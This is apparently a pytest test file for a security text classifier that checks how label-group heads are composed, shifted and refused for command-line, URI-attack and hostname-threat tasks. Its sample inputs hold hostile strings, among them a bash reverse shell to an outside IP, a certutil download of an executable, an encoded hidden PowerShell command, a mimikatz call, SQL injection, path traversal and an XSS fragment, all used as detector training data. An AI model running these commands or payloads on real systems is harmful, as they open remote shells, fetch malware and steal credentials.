"""A label group: what a file composed of two heads answers, and which files are refused."""

from __future__ import annotations

import json

import numpy as np
import pandas as pd
import pytest

pytest.importorskip("torch")

from edge_demist import EdgeDemist
from edge_demist.format import safetensors
from edge_demist.format.specialist import read_specialist
from edge_demist.train.rows import pack
from tests.support.plain_heads import with_one_group
from tools.train import labels
from tools.train.kept import Kept
from tools.train.ood import plain_head
from tools.train.shipped import BundleTokenizer

TASK = "cmdline"
TEXTS = [
    "ls -la /tmp", "notepad.exe notes.txt", "powershell -nop -w hidden -enc SQBFAFgA", "mimikatz.exe privilege::debug", "git status",
    "certutil -urlcache -f http://203.0.113.7/a.exe a.exe", "cat /etc/hosts", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
]  # fmt: skip


@pytest.fixture(scope="module")
def shipped():
    with EdgeDemist.load() as model:
        yield model


@pytest.fixture
def compose(shipped, tmp_path, monkeypatch):
    """Run the tool on a file whose alarm is one higher in its logit, and return that, the head before by itself, and what it wrote."""
    path = shipped.bundle.path / "specialists" / f"{TASK}.safetensors"
    metadata, tensors = safetensors.read(path, copy=True)
    one = labels.without_label_group(shipped.specialist(TASK))
    tensors |= {"head.weight": one.weight, "head.ngram_weight": one.ngram_weight, "head.bias": one.bias}
    plain = tmp_path / "plain.safetensors"
    metadata = {name: value for name, value in metadata.items() if name not in labels.LABEL_GROUP}
    safetensors.write(plain, tensors, metadata)
    bent = tmp_path / f"{TASK}.safetensors"
    frame = pd.DataFrame({"text": TEXTS, "label": ["benign", "malicious"] * 4})
    monkeypatch.setattr(labels, "read_table", lambda *_: frame)

    def run(*more, **changed):
        safetensors.write(bent, {**tensors, **changed}, metadata)
        given = ["--data", str(tmp_path), "--task", TASK, "--alarms", str(bent), "--out", str(tmp_path / "out"), *more]
        assert labels.main(given) == 0
        return bent, plain, tmp_path / "out" / f"{TASK}.safetensors"

    return run


def probabilities(shipped, path):
    one = read_specialist(shipped.bundle, path, TASK)
    pooled, grams = Kept(shipped, one, TASK, None)(TEXTS)
    return one, one.probabilities(pooled, grams)


def test_alarms_are_of_one_file_and_labels_of_the_other(shipped, compose, capsys):
    before = labels.without_label_group(shipped.specialist(TASK))
    files = compose("--below", "0.9", **{"head.bias": before.bias + np.float32([0.0, 1.0])})
    assert json.loads(capsys.readouterr().out)["columns"] == 2
    (_, alarms), (_, answers), (made, found) = (probabilities(shipped, file) for file in files)
    above = alarms[:, 1] / alarms.sum(1) >= 0.9
    assert 0 < above.sum() < len(TEXTS)
    np.testing.assert_allclose(found[above], alarms[above], rtol=1e-5)
    free = ~above & (answers[:, 1] / answers.sum(1) < 0.9)
    np.testing.assert_allclose(found[free], answers[free], rtol=1e-4, atol=1e-7)
    assert made.thresholds["fpr"] == before.thresholds["fpr"]


def test_a_label_group_is_taken_again_and_moved(shipped, compose, tmp_path):
    first = probabilities(shipped, compose()[2])[1]
    kept = tmp_path / "kept.safetensors"
    kept.write_bytes((tmp_path / "out" / f"{TASK}.safetensors").read_bytes())
    np.testing.assert_allclose(probabilities(shipped, compose("--labels", str(kept))[2])[1], first, atol=1e-6)
    higher = probabilities(shipped, compose("--labels", str(kept), "--shift", "0.7")[2])[1]
    low = first[:, 1] / first.sum(1) < 0.3
    assert low.any()
    odds = [np.log(x[low, 1] / x[low, 0]) for x in (first, higher)]
    np.testing.assert_allclose(odds[1] - odds[0], 0.7, atol=1e-3)


def test_heads_on_other_vectors_are_refused(shipped, compose):
    before = read_specialist(shipped.bundle, shipped.bundle.path / "specialists" / f"{TASK}.safetensors", TASK)
    (layer, target), (down, _) = next(iter(before.adapter.layers.items()))
    with pytest.raises(SystemExit, match=f"lora.{layer}.{target}.A"):
        compose(**{f"lora.{layer}.{target}.A": down + np.float32(1e-3)})
    with pytest.raises(SystemExit, match="first harmless column"):
        compose("--without", "0")


def test_a_head_with_a_label_group_is_not_fitted_again(shipped, compose):
    made = read_specialist(shipped.bundle, compose()[2], TASK)
    with pytest.raises(SystemExit, match="label group"):
        plain_head(made)


def test_columns_of_the_own_table_reach_the_label_group_alone(shipped, tmp_path, monkeypatch):
    task, texts = (
        "uri-attack",
        ["/index.html", "/item?id=1' or 1=1--", "/a?next=//evil.example", "/../../etc/passwd", "/q?s=<script>", "/;id"],
    )
    plain = with_one_group(shipped, task, tmp_path / "before")
    path = plain / "specialists" / f"{task}.safetensors"
    names = read_specialist(shipped.bundle, path, task).labels
    given = [names[n] for n in (1, 4, 2, 3, 5, 0)]
    monkeypatch.setattr(labels, "read_table", lambda *_: pd.DataFrame({"text": texts, "label": given}))
    numbers = np.array([names.index(name) for name in given] * 50, np.int64)
    rows = pack(texts * 50, BundleTokenizer(shipped.bundle), 64, numbers)
    monkeypatch.setattr(labels.bundle_columns, "rows_of", lambda *_: (rows, None))
    assert (
        labels.main(
            ["--data", str(tmp_path), "--task", task, "--bundle", str(plain), "--own", "1", "--own-epochs", "1", "--out", str(tmp_path)]
        )
        == 0
    )
    old, new = (read_specialist(shipped.bundle, file, task) for file in (path, tmp_path / f"{task}.safetensors"))
    features = [Kept(shipped, one, task, None)(texts) for one in (old, new)]
    assert not old.ngrams.weight[:, 6:12].any()
    assert new.ngrams.weight[:, 6:12].any()
    before, after = old.probabilities(*features[0]), new.probabilities(*features[1])
    alarm = 1 - before[:, 1] / before.sum(1) >= new.label_below
    assert 0 < alarm.sum() < len(texts)
    np.testing.assert_allclose(after[alarm], before[alarm], rtol=1e-4, atol=1e-7)
    assert np.abs(after[~alarm] - before[~alarm]).max() > 1e-4


def test_gates_stay_and_a_column_is_weighed_anew(shipped, tmp_path, monkeypatch):
    task, number = "hostname-threat", 62
    texts = ["kernel.org", "paypal-login.example-verify.ru", "xjqzvwpk8r3t.info", "update.microsoft.com"]
    monkeypatch.setattr(labels, "read_table", lambda *_: pd.DataFrame({"text": texts, "label": ["legit", "malicious"] * 2}))
    given = ["--data", str(tmp_path), "--task", task, "--column", f"{number}=100", "--out", str(tmp_path)]
    assert labels.main(given) == 0
    path = shipped.bundle.path / "specialists" / f"{task}.safetensors"
    old, new = (read_specialist(shipped.bundle, file, task) for file in (path, tmp_path / f"{task}.safetensors"))
    assert new.gates == old.gates > 0
    np.testing.assert_array_equal(new.ngram_weight[:, -new.gates :], old.ngram_weight[:, -old.gates :])
    np.testing.assert_array_equal(new.bias[-new.gates :], old.bias[-old.gates :])
    begin = len(new.owners)
    weighed = new.ngram_weight[number, begin : len(new.bias) - new.gates] / new.temperature
    np.testing.assert_allclose(weighed[1:] - weighed[0], 100, rtol=1e-5)


def test_rows_beside_the_table_come_from_files_and_generators(tmp_path):
    pd.DataFrame({"text": ["/a"], "label": ["normal"], "source": ["list"], "other": [1]}).to_parquet(tmp_path / "more.parquet")
    given = ["--data", str(tmp_path), "--task", "uri-attack", "--out", str(tmp_path), "--own-more", str(tmp_path / "more.parquet")]
    found = labels.more_rows(labels.parse([*given, "--own-made", "uri-commands=40", "uri-bodies=20"]))
    assert found[0] == ("/a", "normal", "list")
    assert len(found) == 61
    for wrong in ("uri-commands", "uri-commands=x", "nothing=4"):
        with pytest.raises(SystemExit):
            labels.parse([*given, "--own-made", wrong])
